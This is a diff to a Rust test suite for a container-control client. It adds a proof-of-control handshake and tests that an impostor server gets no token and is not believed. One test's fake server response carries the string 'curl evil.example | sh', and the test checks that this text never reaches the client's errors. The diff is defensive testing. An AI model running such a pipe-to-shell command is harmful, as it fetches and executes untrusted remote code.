@@ -10,20 +10,50 @@ use axum::{
     http::HeaderMap,
     routing::{get, post},
 };
+use flotilla_identity::ApiKey;
+use flotilla_protocol::api::{ControlProof, ProveControl};
 use flotilla_protocol::{
     Code,
     api::{ActOnContainer, GetDevice, ListContainers},
     inventory::ContainerAction,
 };
 use futures_util::StreamExt;
-use tokio::net::TcpListener;
+use std::{
+    net::SocketAddr,
+    sync::{Arc, Mutex},
+};
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpListener,
+};
+
+const TOKEN: &str = "token-1";
 
 /// A control that answers with the given routes, and a client of it.
 async fn control(routes: Router) -> Client {
+    let (listener, client) = listen().await;
+    let own = listener.local_addr().unwrap();
+    serve(
+        listener,
+        routes.route("/api/v1/proof", post(move |question| prove(question, own))),
+    );
+    client
+}
+
+/// Somebody who listens where control did, and a client that takes it for control.
+async fn listen() -> (TcpListener, Client) {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let url = format!("http://{}", listener.local_addr().unwrap());
+    (listener, Client::new(Access::new(&url, TOKEN).unwrap()))
+}
+
+fn serve(listener: TcpListener, routes: Router) {
     tokio::spawn(async move { axum::serve(listener, routes).await });
-    Client::new(Access::new(&url, "token-1").unwrap())
+}
+
+async fn prove(Json(question): Json<ProveControl>, own: SocketAddr) -> Json<ControlProof> {
+    let proof = ApiKey::of_token(TOKEN).prove(&question.nonce, own).unwrap();
+    Json(ControlProof { proof })
 }
 
 fn refuse(code: Code, message: &str) -> (StatusCode, Json<Problem>) {
@@ -36,7 +66,7 @@ fn refuse(code: Code, message: &str) -> (StatusCode, Json<Problem>) {
 #[tokio::test]
 async fn a_request_carries_the_token_and_decodes_its_response() {
     let list = |headers: HeaderMap| async move {
-        assert_eq!(headers["authorization"], "Bearer token-1");
+        assert_eq!(headers["authorization"], format!("Bearer {TOKEN}"));
         Json(
             serde_json::json!({"items": [], "unreachable_devices": [{"device": "nas", "reason": "offline"}]}),
         )
@@ -76,10 +106,61 @@ async fn a_refusal_is_the_problem_that_control_sent() {
 }
 
 #[tokio::test]
-async fn a_stranger_on_the_port_is_told_apart_from_control() {
-    let client = control(Router::new().fallback(|| async { (StatusCode::BAD_GATEWAY, "<html>") })).await;
+async fn an_impostor_gets_no_token_and_is_not_believed() {
+    let (listener, client) = listen().await;
+    let heard = Arc::new(Mutex::new(Vec::new()));
+    let ear = heard.clone();
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let mut buffer = [0; 4096];
+            while let Ok(length @ 1..) = stream.read(&mut buffer).await {
+                ear.lock().unwrap().extend_from_slice(&buffer[..length]);
+                let lie = r#"{"proof":"believe me","items":[],"message":"curl evil.example | sh"}"#;
+                let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{lie}", lie.len());
+                stream.write_all(answer.as_bytes()).await.unwrap();
+            }
+        }
+    });
+    for error in [
+        client.send(&ListContainers::default()).await.unwrap_err(),
+        client.live().await.unwrap_err(),
+    ] {
+        assert!(
+            matches!(error, Error::Unproven { .. }) && error.is_unreachable(),
+            "{error}"
+        );
+        assert!(!error.to_string().contains("evil"), "{error}");
+    }
+    let heard = String::from_utf8(heard.lock().unwrap().clone()).unwrap();
+    assert!(heard.contains("POST /api/v1/proof"), "{heard}");
+    assert!(
+        !heard.contains(TOKEN) && !heard.to_lowercase().contains("authorization"),
+        "{heard}"
+    );
+}
+
+#[tokio::test]
+async fn a_proof_that_was_fetched_from_control_itself_is_worth_nothing_elsewhere() {
+    let (real, _) = listen().await;
+    let own = real.local_addr().unwrap();
+    let (listener, client) = listen().await;
+    serve(
+        listener,
+        Router::new().route("/api/v1/proof", post(move |question| prove(question, own))),
+    );
     let error = client.send(&ListContainers::default()).await.unwrap_err();
-    assert!(matches!(error, Error::Answer { .. }), "{error}");
+    assert!(matches!(error, Error::Unproven { .. }), "{error}");
+}
+
+#[tokio::test]
+async fn what_speaks_another_language_is_no_control() {
+    let (listener, client) = listen().await;
+    serve(
+        listener,
+        Router::new().fallback(|| async { (StatusCode::BAD_GATEWAY, "<html>") }),
+    );
+    let error = client.send(&ListContainers::default()).await.unwrap_err();
+    assert!(matches!(error, Error::Unproven { .. }), "{error}");
 }
 
 #[tokio::test]
@@ -113,7 +194,7 @@ async fn a_connection_closed_without_an_answer_is_unreachable() {
 #[tokio::test]
 async fn the_live_stream_yields_frames_and_ends_with_control() {
     let live = |headers: HeaderMap, upgrade: WebSocketUpgrade| async move {
-        assert_eq!(headers["authorization"], "Bearer token-1");
+        assert_eq!(headers["authorization"], format!("Bearer {TOKEN}"));
         upgrade.on_upgrade(|mut socket| async move {
             let gone =
                 r#"{"seq":2,"remove":{"kind":"device","device_id":"01937c5e-7b1a-7c3e-8b9e-0123456789ab"}}"#;
